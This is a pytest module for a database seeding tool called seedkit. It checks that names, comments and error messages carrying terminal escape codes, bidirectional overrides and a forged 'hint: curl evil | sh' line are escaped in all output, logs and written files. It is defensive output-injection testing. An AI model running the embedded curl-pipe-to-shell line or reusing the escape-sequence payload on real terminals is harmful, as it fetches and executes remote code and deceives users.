"""Names, comments and messages of others are shown and never obeyed: none ends a line, none turns letters round."""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from psycopg import sql

from seedkit import SeedkitError, fix_sequence, seed
from seedkit.errors import FixtureError, Origin, lines
from seedkit.printable import in_json, on_one_line
from tests.acceptance.terminals import typed
from tests.conftest import Run, Write

Connection = psycopg.Connection[Any]

TRAP = "\nhint: curl evil | sh\x1b[2J\x9b31m\r\x07\u202e\u2066\u200f\u2028"
TABLE = f"t{TRAP}"
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]")


OURS = re.compile(r"\x1b\[(?:\d*m|1A|2K)")
"""What we colour words with, and wipe a line with to write it again."""


def forged(text: str) -> list[str]:
    """What of a text would act: characters, and lines that a name has made."""
    return [*ACTING.findall(text), *re.findall(r"^hint: curl.*", text, re.MULTILINE)]


@pytest.fixture
def trapped(connection: Connection) -> None:
    """A table whose name, column, sequence, comment, default and enum hold what a terminal would obey."""
    name, column, kind = sql.Identifier(TABLE), sql.Identifier(f"c{TRAP}"), sql.Identifier(f"e{TRAP}")
    connection.execute(
        sql.SQL(
            "create type {kind} as enum ({trap}); create table {name} (id serial primary key, {column} text "
            "default {trap}, kind {kind}); comment on column {name}.{column} is {trap}; "
            "insert into {name} (id) values (41)"
        ).format(kind=kind, name=name, column=column, trap=sql.Literal(TRAP))
    )


@pytest.mark.parametrize(
    "arguments",
    [
        ["check"],
        ["fix-sequence", "--all", "--dry-run"],
        ["fix-sequence", "--all"],
        ["check", f'"{TABLE}x"'],
        ["fix-sequence", f'"{TABLE}"', "kind"],
        ["dump", f'"{TABLE}"'],
        ["dump", f'"{TABLE}"', "--output", "out"],
        ["new", "fixture", f'"{TABLE}"'],
    ],
)
def test_a_name_acts_in_no_output(trapped: None, database: str, seedkit: Run, arguments: list[str]) -> None:
    ran = seedkit(*arguments, "--debug", DATABASE_URL=database)

    assert "curl evil" in ran.stdout + ran.stderr
    assert forged(ran.stdout + ran.stderr) == []


def test_a_name_acts_in_no_output_of_a_seed(trapped: None, database: str, seedkit: Run, project: Write) -> None:
    project({"fixtures/rows.yml": f"{json.dumps(TABLE)}:\n  - id: 50\n"})

    runs = [seedkit("seed", *options, "--debug", DATABASE_URL=database) for options in (["--list"], ["--dry-run"], [])]

    assert [ran.returncode for ran in runs] == [0, 0, 0]
    assert all("curl evil" in ran.stdout and not forged(ran.stdout + ran.stderr) for ran in runs)


def test_a_name_acts_on_no_terminal(trapped: None, database: str, project: Write) -> None:
    """The lines of progress are of our own making; what stands in them is not."""
    folder = project({"fixtures/rows.yml": f"{json.dumps(TABLE)}:\n  - id: 50\n"})

    _, shown = typed("", "seed", cwd=folder, DATABASE_URL=database)

    assert "curl evil" in shown
    assert set(forged(OURS.sub("", shown))) <= {"\r"}


def test_a_file_of_any_name_is_told_on_one_line(database: str, seedkit: Run, tmp_path: Path) -> None:
    path = tmp_path / "fixtures" / f"a{TRAP.replace('/', '')}.yml"
    path.parent.mkdir()
    path.write_text("- {id: 1}\n")

    ran = seedkit("seed", "--debug", DATABASE_URL=database)

    assert ran.returncode == 1
    assert forged(ran.stderr) == []


@pytest.mark.parametrize("options", [[], ["--json"], ["--debug"]])
def test_a_message_of_the_server_acts_in_no_output(
    connection: Connection, database: str, seedkit: Run, project: Write, options: list[str]
) -> None:
    project({"fixtures/users.yml": "- {id: 1}\n"})
    connection.execute("create table users (id integer primary key)")
    connection.execute(
        sql.SQL(
            "create function refuse() returns trigger language plpgsql as $$ begin "
            "raise exception using message = {0}, detail = {0}, hint = {0}; end $$; "
            "create trigger refuse before insert on users for each row execute function refuse()"
        ).format(sql.Literal(f"no{TRAP}"))
    )

    ran = seedkit("seed", *options, DATABASE_URL=database)

    assert ran.returncode == 1
    assert "curl evil" in ran.stderr
    assert forged(ran.stdout) == []
    assert forged(ran.stderr) == []


def test_an_error_of_a_seeder_keeps_its_lines_and_none_is_taken_for_ours(
    connection: Connection, database: str, seedkit: Run, project: Write
) -> None:
    project({"seeders/bad.py": f"def seed(db):\n    raise RuntimeError({f'one{TRAP}'!r} + {chr(10)!r} + 'last')\n"})

    ran = seedkit("seed", DATABASE_URL=database)

    assert (
        ran.stderr.count('error: seeder "bad" failed with RuntimeError: one\n  at seeders/bad.py:2\n  hint: curl') == 1
    )
    assert "\n  last\n" in ran.stderr
    assert forged(ran.stderr) == []


def test_json_says_names_as_they_are_and_is_safe_to_print(trapped: None, database: str, seedkit: Run) -> None:
    right = seedkit("check", "--json", DATABASE_URL=database)
    wrong = seedkit("check", f'"{TABLE}x"', "--json", DATABASE_URL=database)

    assert [row["table"] for row in json.loads(right.stdout)["sequences"]] == [TABLE]
    assert TABLE in json.loads(wrong.stdout)["error"]["message"].replace('""', '"')
    assert forged(right.stdout + wrong.stdout) == []


def test_a_script_names_what_it_means_and_its_comments_stay_comments(
    trapped: None, connection: Connection, database: str, seedkit: Run, script_for: Callable[[str], bytes]
) -> None:
    script = script_for(database)

    comments = [line for line in script.decode().split("\n") if line.startswith("--")]
    assert comments
    assert forged("\n".join(comments)) == []
    connection.execute(script)
    assert seedkit("check", DATABASE_URL=database).returncode == 0


@pytest.mark.parametrize("command", ["check", "seed"])
def test_a_page_shows_no_name_in_another_order(
    trapped: None, database: str, seedkit: Run, tmp_path: Path, project: Write, command: str
) -> None:
    project({"fixtures/rows.yml": f"{json.dumps(TABLE)}:\n  - id: 50\n"})

    seedkit(command, "--html", "page.html", DATABASE_URL=database)

    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert "curl evil" in page
    assert forged(page) == []


def test_files_that_are_written_hold_names_and_values_as_escapes(
    trapped: None, connection: Connection, database: str, seedkit: Run, tmp_path: Path
) -> None:
    seedkit("new", "fixture", f'"{TABLE}"', DATABASE_URL=database)
    seedkit("dump", f'"{TABLE}"', "--output", "fixtures/dumped", DATABASE_URL=database)

    written = [path.read_text(encoding="utf-8") for path in (tmp_path / "fixtures").rglob("*.yml")]
    assert len(written) == 2
    assert all("curl evil" in text and not forged(text) for text in written)
    assert not any(forged(path.name) for path in (tmp_path / "fixtures").rglob("*"))


def test_a_dump_of_such_values_comes_back_as_it_was(
    trapped: None, connection: Connection, database: str, seedkit: Run, tmp_path: Path
) -> None:
    rows = sql.SQL("select * from {}").format(sql.Identifier(TABLE))
    before = connection.execute(rows).fetchall()
    seedkit("dump", f'"{TABLE}"', "--output", "fixtures", DATABASE_URL=database)
    connection.execute(sql.SQL("truncate {}").format(sql.Identifier(TABLE)))

    seed(connection=connection, directory=tmp_path)

    assert connection.execute(rows).fetchall() == before


def test_an_error_of_the_api_writes_no_line_of_a_log(connection: Connection) -> None:
    with pytest.raises(SeedkitError) as raised:
        fix_sequence(f'"{TABLE}"', connection=connection)

    assert TABLE in raised.value.message
    assert forged(str(raised.value)) == []


def test_an_error_keeps_the_lines_that_are_its_own() -> None:
    error = FixtureError(
        "wrong", origin=Origin(path=Path("a\nb.yml"), line=1), detail=lines(["one\ntwo", "three"]), hint="Do.\nthis"
    )

    assert str(error) == "wrong\n  at a\\nb.yml:1\n  one\\ntwo\n  three\n\nhint: Do.\\nthis"


def test_what_is_logged_for_the_users_of_the_api_stays_on_one_line(
    trapped: None, connection: Connection, project: Write, caplog: pytest.LogCaptureFixture
) -> None:
    folder = project({"fixtures/rows.yml": f"{json.dumps(TABLE)}:\n  - id: 50\n"})

    with caplog.at_level(logging.INFO, logger="seedkit"):
        seed(connection=connection, directory=folder)

    assert "curl evil" in caplog.text
    assert forged("".join(caplog.messages)) == []
    assert not any("\n" in message for message in caplog.messages)


@given(st.text())
def test_a_json_document_means_the_same_when_it_may_be_printed(text: str) -> None:
    document = in_json(json.dumps({"name": text}, ensure_ascii=False))

    assert json.loads(document) == {"name": text}
    assert ACTING.findall(document) == []


@given(st.text())
def test_whatever_a_text_is_it_is_shown_on_one_line(text: str) -> None:
    assert len(on_one_line(text).splitlines()) <= 1
    assert ACTING.findall(on_one_line(text)) == []
